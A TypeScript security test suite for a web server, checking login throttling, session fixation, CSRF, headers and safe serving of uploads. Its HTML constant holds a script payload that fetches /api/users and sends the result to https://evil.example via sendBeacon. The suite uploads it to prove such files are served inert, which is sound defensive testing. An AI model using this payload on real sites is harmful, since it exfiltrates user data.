/**
 * Security checks (issue 9, item 7) against a real listening server (createTestApp on a loopback
 * port, the login limits at their production defaults, a trusted proxy at 127.0.0.1 so that
 * X-Forwarded-For / -Proto stand for other clients and TLS):
 * - `npm audit` at high or above is clean but for the exceptions docs/security.md lists with reasons
 *   (when the registry's audit endpoint cannot be reached, says so in one line and skips that check);
 * - login brute force is throttled (per address) and an account locks after repeated failures;
 * - session fixation: a token planted before login is never the session after it;
 * - CSRF: cookie-authenticated writes without the right token are refused; a WebSocket opened with
 *   the cookie from another site's page is not authenticated;
 * - headers: CSP, nosniff, no server banner, HSTS only over TLS;
 * - uploaded files (call audio, team photos, agreement files) are never served as HTML, even an HTML
 *   file uploaded as audio.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import { after, before, describe, it } from 'node:test';
import WebSocket from 'ws';
import { FIXTURE_PASSWORD, createTestApp, userNameFor, type TestApp } from '../apps/server/src/testing/app.js';

const LOGIN_RATE = 20;
const MAX_FAILURES = 5;
const HTML = '<!doctype html><html><body><script>fetch("/api/users").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>';

describe('security checks', () => {
  let t: TestApp;
  let base: string;
  before(async () => {
    t = await createTestApp({
      config: { PINGAN_LOGIN_RATE_PER_MINUTE: LOGIN_RATE, PINGAN_LOGIN_MAX_FAILURES: MAX_FAILURES, PINGAN_TRUST_PROXY: ['127.0.0.1'] },
    });
    await t.app.listen({ host: '127.0.0.1', port: 0 });
    base = `http://127.0.0.1:${(t.app.server.address() as { port: number }).port}`;
  });
  after(async () => t?.close());

  /** A login from a client address of its own (through the trusted proxy). */
  const login = (username: string, password: string, from: string, headers: Record<string, string> = {}) =>
    fetch(`${base}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': from, ...headers }, body: JSON.stringify({ username, password }) });
  const sessionOf = async (res: Response) => {
    const cookie = res.headers.getSetCookie().find((c) => c.startsWith('pingan_session='));
    assert.ok(cookie, 'a session cookie is set');
    const body = (await res.json()) as { csrfToken: string };
    return { setCookie: cookie, cookie: cookie.split(';')[0]!, csrf: body.csrfToken };
  };

  it('npm audit: nothing high or critical beyond the documented exceptions', async (ctx) => {
    const out = await new Promise<string>((resolve) => {
      execFile('npm', ['audit', '--json'], { timeout: 120_000, maxBuffer: 64 * 1024 * 1024 }, (_err, stdout) => resolve(stdout));
    });
    let report: { metadata?: { vulnerabilities?: Record<string, number> }; vulnerabilities?: Record<string, { severity: string; via: unknown[] }>; message?: string; error?: { summary?: string } } = {};
    try {
      report = JSON.parse(out) as typeof report;
    } catch {
      report = { message: out.slice(0, 200) };
    }
    if (!report.metadata?.vulnerabilities) {
      const why = String(report.message ?? report.error?.summary ?? 'no answer').split('\n')[0];
      console.log(`figure: security npm audit could not run here (${why}): check skipped`);
      ctx.skip('the registry audit endpoint is not reachable from this machine');
      return;
    }
    const documented = new Set([...fs.readFileSync('docs/security.md', 'utf8').matchAll(/^\|\s*`([^`]+)`\s*\|\s*(high|critical)\s*\|/gim)].map((m) => m[1]!));
    const serious = Object.entries(report.vulnerabilities ?? {}).filter(([, v]) => v.severity === 'high' || v.severity === 'critical');
    const m = report.metadata.vulnerabilities;
    console.log(`figure: security npm audit: critical ${m.critical ?? 0}, high ${m.high ?? 0}, moderate ${m.moderate ?? 0}, low ${m.low ?? 0}; documented exceptions ${[...documented].join(', ') || 'none'}`);
    assert.deepEqual(serious.map(([name]) => name).filter((n) => !documented.has(n)), [], 'every high or critical advisory is fixed or documented in docs/security.md');
  });

  it('throttles login brute force per address and locks an account after repeated failures', async () => {
    // One address guessing many accounts: throttled after the per-minute allowance, with Retry-After.
    const attacker = '203.0.113.7';
    const statuses: number[] = [];
    let retryAfter: string | null = null;
    for (let i = 0; i < LOGIN_RATE + 10; i++) {
      const r = await login(`guess${i}`, 'password123', attacker);
      statuses.push(r.status);
      if (r.status === 429) retryAfter ??= r.headers.get('retry-after');
      await r.arrayBuffer();
    }
    const refused = statuses.filter((s) => s === 401).length;
    const throttled = statuses.filter((s) => s === 429).length;
    assert.equal(refused, LOGIN_RATE, `the first ${LOGIN_RATE} attempts are checked and refused`);
    assert.equal(throttled, 10, 'every attempt after them is throttled');
    assert.ok(Number(retryAfter) > 0, 'a throttled answer says when to come back');
    // The correct password from the throttled address is throttled too: no oracle while throttled.
    const right = await login(userNameFor('dispatcher', 'self'), FIXTURE_PASSWORD, attacker);
    assert.equal(right.status, 429);
    // Another address is not affected.
    const other = await login(userNameFor('dispatcher', 'self'), FIXTURE_PASSWORD, '198.51.100.2');
    assert.equal(other.status, 200, 'a different client logs in normally');

    // Guessing one account's password, from addresses that change: the account locks.
    const victim = userNameFor('community_officer', 'below');
    const tries: number[] = [];
    for (let i = 0; i < MAX_FAILURES + 2; i++) tries.push((await login(victim, `wrong-${i}`, `192.0.2.${10 + i}`)).status);
    assert.deepEqual(tries.slice(0, MAX_FAILURES), Array(MAX_FAILURES).fill(401));
    assert.deepEqual(tries.slice(MAX_FAILURES), [423, 423], 'locked after the failures');
    const locked = await login(victim, FIXTURE_PASSWORD, '192.0.2.99');
    assert.equal(locked.status, 423, 'even the right password is refused while locked');
    assert.match(((await locked.json()) as { message: string }).message, /locked/);
    const [audit] = await t.ctx.database.query<{ n: number }>(`select count(*)::int as n from audit_log where action = 'auth.lockout'`);
    assert.equal(audit!.n, 1, 'the lockout is audited');
    console.log(`figure: security brute force: from one address ${refused} attempts checked then ${throttled} throttled (429, Retry-After ${retryAfter} s); one account locked after ${MAX_FAILURES} failures from ${MAX_FAILURES} addresses (423, right password refused)`);
  });

  it('never adopts a session token planted before login, and ends sessions on logout', async () => {
    const planted = 'pingan_session=attacker-chosen-token-0123456789abcdef';
    const res = await login(userNameFor('dispatcher', 'above'), FIXTURE_PASSWORD, '198.51.100.3', { cookie: planted });
    assert.equal(res.status, 200);
    const s = await sessionOf(res);
    assert.notEqual(s.cookie, planted, 'a new token is issued');
    assert.match(s.setCookie, /HttpOnly/i);
    assert.match(s.setCookie, /SameSite=Strict/i);
    assert.equal((await fetch(`${base}/api/auth/me`, { headers: { cookie: planted } })).status, 401, 'the planted token is no session');
    assert.equal((await fetch(`${base}/api/auth/me`, { headers: { cookie: s.cookie } })).status, 200);
    // Logging in again while logged in gives another session, not the same token.
    const again = await sessionOf(await login(userNameFor('dispatcher', 'above'), FIXTURE_PASSWORD, '198.51.100.3', { cookie: s.cookie }));
    assert.notEqual(again.cookie, s.cookie);
    // Logout ends the session for good.
    const out = await fetch(`${base}/api/auth/logout`, { method: 'POST', headers: { cookie: again.cookie, 'x-csrf-token': again.csrf } });
    assert.equal(out.status, 204);
    assert.equal((await fetch(`${base}/api/auth/me`, { headers: { cookie: again.cookie } })).status, 401, 'a logged-out token is refused');
    console.log('figure: security session fixation: planted token ignored (new token on login, planted one 401), re-login issues a new token, logged-out token 401; cookie HttpOnly, SameSite=Strict');
  });

  it('refuses cookie-authenticated writes without the right CSRF token, and cross-site WebSockets', async () => {
    const s = await sessionOf(await login(userNameFor('dispatcher', 'above'), FIXTURE_PASSWORD, '198.51.100.4'));
    const other = await sessionOf(await login(userNameFor('dispatcher', 'self'), FIXTURE_PASSWORD, '198.51.100.4'));
    const intake = JSON.stringify({ content: 'CSRF 测试', category: 'public_order.fight', priority: 2, location: { lon: 118.55, lat: 36.95 } });
    const post = (headers: Record<string, string>, body = intake, type = 'application/json') =>
      fetch(`${base}/api/incidents`, { method: 'POST', headers: { 'content-type': type, ...headers }, body });
    const cases: [string, Response][] = [
      ['no token', await post({ cookie: s.cookie })],
      ['a wrong token', await post({ cookie: s.cookie, 'x-csrf-token': 'wrong' })],
      ["another session's token", await post({ cookie: s.cookie, 'x-csrf-token': other.csrf })],
      ['a cross-site form post', await post({ cookie: s.cookie, origin: 'https://evil.example' }, 'content=x', 'application/x-www-form-urlencoded')],
      ['a cross-site text/plain post', await post({ cookie: s.cookie, origin: 'https://evil.example' }, intake, 'text/plain')],
    ];
    for (const [what, r] of cases) {
      assert.equal(r.status, 403, `${what}: ${r.status}`);
      assert.equal(((await r.json()) as { error: string }).error, 'csrf');
    }
    const [before] = await t.ctx.database.query<{ n: number }>(`select count(*)::int as n from incident`);
    assert.equal(before!.n, 0, 'nothing was created by the refused requests');
    const ok = await post({ cookie: s.cookie, 'x-csrf-token': s.csrf });
    assert.equal(ok.status, 201, 'with its own token the write goes through');
    const bearer = await fetch(`${base}/api/auth/token`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': '198.51.100.4' }, body: JSON.stringify({ username: userNameFor('dispatcher', 'above'), password: FIXTURE_PASSWORD }) });
    const { token } = (await bearer.json()) as { token: string };
    assert.equal((await post({ authorization: `Bearer ${token}` })).status, 201, 'a bearer token needs no CSRF token (no browser sends it by itself)');

    // WebSocket: the cookie opens a stream from our own page, not from another site's.
    const wsStatus = (origin: string) =>
      new Promise<string>((resolve) => {
        const ws = new WebSocket(`${base.replace('http', 'ws')}/api/ws`, { headers: { cookie: s.cookie, origin } });
        ws.on('message', (raw) => {
          const m = JSON.parse(String(raw)) as { type: string };
          if (m.type === 'live') {
            ws.close();
            resolve('live');
          }
        });
        ws.on('close', (code) => resolve(`closed ${code}`));
        ws.on('error', () => resolve('error'));
      });
    assert.equal(await wsStatus(base), 'live', 'same origin: streams');
    assert.equal(await wsStatus('https://evil.example'), 'closed 4401', 'foreign origin: the cookie does not count');
    console.log(`figure: security CSRF: ${cases.length} cookie writes without the right token refused (403 csrf, 0 rows), own token 201, bearer 201; WebSocket with the cookie: same origin live, foreign origin closed 4401`);
  });

  it('sends CSP and nosniff, no server banner, and HSTS only over TLS', async () => {
    const plain = await fetch(`${base}/api/auth/me`);
    const viaTls = await fetch(`${base}/api/auth/me`, { headers: { 'x-forwarded-proto': 'https' } });
    const health = await fetch(`${base}/healthz`, { headers: { 'x-forwarded-proto': 'https' } });
    for (const r of [plain, viaTls, health]) {
      assert.match(r.headers.get('content-security-policy') ?? '', /default-src 'self'/);
      assert.match(r.headers.get('content-security-policy') ?? '', /script-src 'self'(;|$)/, 'no inline or eval script');
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
      assert.equal(r.headers.get('server'), null, 'no server banner');
      assert.equal(r.headers.get('x-powered-by'), null);
      assert.match(r.headers.get('x-frame-options') ?? '', /SAMEORIGIN|DENY/);
    }
    assert.equal(plain.headers.get('strict-transport-security'), null, 'no HSTS over plain HTTP');
    assert.match(viaTls.headers.get('strict-transport-security') ?? '', /max-age=\d{7,}/, 'HSTS when the proxy says the request came over TLS');
    assert.match(health.headers.get('strict-transport-security') ?? '', /max-age/);
    // A client that is not the trusted proxy cannot claim TLS for itself: covered by trustProxy, which
    // takes X-Forwarded-Proto only from 127.0.0.1 here.
    console.log(`figure: security headers: CSP "${(plain.headers.get('content-security-policy') ?? '').slice(0, 60)}…", nosniff, no server/x-powered-by; HSTS over plain HTTP: none; behind TLS: "${viaTls.headers.get('strict-transport-security')}"`);
  });

  it('never serves an uploaded file as HTML', async () => {
    const admin = await t.session('admin', 'above');
    const h = (extra: Record<string, string> = {}) => ({ ...admin, ...extra });
    // Call audio: an HTML page uploaded with an audio type.
    const inc = await t.as('dispatcher', 'above', { method: 'POST', url: '/api/incidents', payload: { content: '上传测试', category: 'public_order.fight', priority: 2, location: { lon: 118.55, lat: 36.95 } } });
    const [call] = await t.ctx.database.query<{ id: string }>('select id from incident_call where incident_id = $1', [inc.json().id]);
    const asHtml = await fetch(`${base}/api/incident-calls/${call!.id}/audio`, { method: 'PUT', headers: h({ 'content-type': 'text/html' }), body: HTML });
    assert.equal(asHtml.status, 415, 'an upload that says it is HTML is refused');
    const disguised = await fetch(`${base}/api/incident-calls/${call!.id}/audio`, { method: 'PUT', headers: h({ 'content-type': 'audio/mpeg' }), body: HTML });
    assert.equal(disguised.status, 204);
    const audio = await fetch(`${base}/api/incident-calls/${call!.id}/audio`, { headers: admin });
    assert.equal(audio.status, 200);
    assert.equal(await audio.text(), HTML, 'the same bytes come back …');
    inert(audio, 'audio/mpeg', 'inline');

    // A team member's photo (public route).
    const [person] = await t.ctx.database.query<{ id: string }>(`insert into team_person (name, node_id) values ('王网格', $1) returning id`, [t.fx.target.id]);
    const photoUp = await fetch(`${base}/api/team-people/${person!.id}/photo`, { method: 'PUT', headers: h({ 'content-type': 'image/png' }), body: HTML });
    assert.equal(photoUp.status, 204, await photoUp.clone().text());
    const photo = await fetch(`${base}/api/public/people/${person!.id}/photo`);
    inert(photo, 'image/png', 'inline');
    // A type that is no longer (or never was) safe to show, left in the database by an older version.
    await t.ctx.database.query(`update team_person set photo_type = 'text/html' where id = $1`, [person!.id]);
    const legacy = await fetch(`${base}/api/public/people/${person!.id}/photo`);
    inert(legacy, 'application/octet-stream', 'attachment');

    // A signed agreement file.
    const agreementId = await agreement(t);
    const up = await fetch(`${base}/api/mediation/agreements/${agreementId}/file`, { method: 'PUT', headers: { ...(await t.session('mediator', 'self')), 'content-type': 'application/pdf', 'x-file-name': encodeURIComponent('协议.html') }, body: HTML });
    assert.equal(up.status, 204, await up.clone().text());
    const file = await fetch(`${base}/api/mediation/agreements/${agreementId}/file`, { headers: await t.session('community_officer', 'self') });
    assert.equal(file.status, 200);
    assert.equal(file.headers.get('content-type'), 'application/pdf');
    assert.equal(file.headers.get('x-content-type-options'), 'nosniff');
    assert.match(file.headers.get('content-disposition') ?? '', /filename\*=UTF-8''%E5%8D%8F%E8%AE%AE\.html/);
    console.log('figure: security uploads: HTML uploaded as audio/mpeg, image/png and application/pdf is served as that type with nosniff and a sandbox CSP (PDF: the site CSP); a stored non-media type is served as application/octet-stream attachment; an upload declared text/html is refused (415)');
  });
});

/** The answer cannot act as a page of the site: declared non-HTML type, no sniffing, sandboxed. */
function inert(r: Response, type: string, disposition: 'inline' | 'attachment') {
  assert.equal(r.status, 200);
  assert.equal(r.headers.get('content-type'), type);
  assert.doesNotMatch(r.headers.get('content-type') ?? '', /html|xml|svg|javascript/);
  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
  assert.match(r.headers.get('content-security-policy') ?? '', /sandbox/);
  assert.match(r.headers.get('content-security-policy') ?? '', /default-src 'none'/);
  assert.match(r.headers.get('content-disposition') ?? '', new RegExp(`^${disposition}`));
}

/** A dispute with a mediator, a session and an agreement, through the API (setup, not under test). */
async function agreement(t: TestApp): Promise<string> {
  const call = async (role: Parameters<TestApp['as']>[0], method: 'POST', url: string, payload: Record<string, unknown>) => {
    const r = await t.as(role, 'self', { method, url, payload });
    assert.ok(r.statusCode < 300, `${url}: ${r.statusCode} ${r.body}`);
    return r.json() as { id: string };
  };
  const d = await call('community_officer', 'POST', '/api/mediation/disputes', {
    type: 'neighbours', source: 'walk_in', title: '院墙纠纷', description: '两户因院墙发生争执', location: { lon: 118.55, lat: 36.95 },
    parties: [{ side: 'applicant', name: '张三', phone: '13612345678' }, { side: 'respondent', name: '李四' }],
  });
  const mediatorId = t.fx.userIds.get('mediator.self')!;
  const a = await call('community_officer', 'POST', `/api/mediation/disputes/${d.id}/mediators`, { userId: mediatorId, body: 'committee' });
  await call('mediator', 'POST', `/api/mediation/assignments/${a.id}/respond`, { accept: true });
  await call('mediator', 'POST', `/api/mediation/disputes/${d.id}/sessions`, { heldAt: new Date(Date.now() - 3600_000).toISOString(), place: '调解室', attendees: ['张三', '李四'], notes: '协商' });
  return (await call('mediator', 'POST', `/api/mediation/disputes/${d.id}/agreements`, { summary: '协议', terms: [{ text: '拆除越界部分' }] })).id;
}
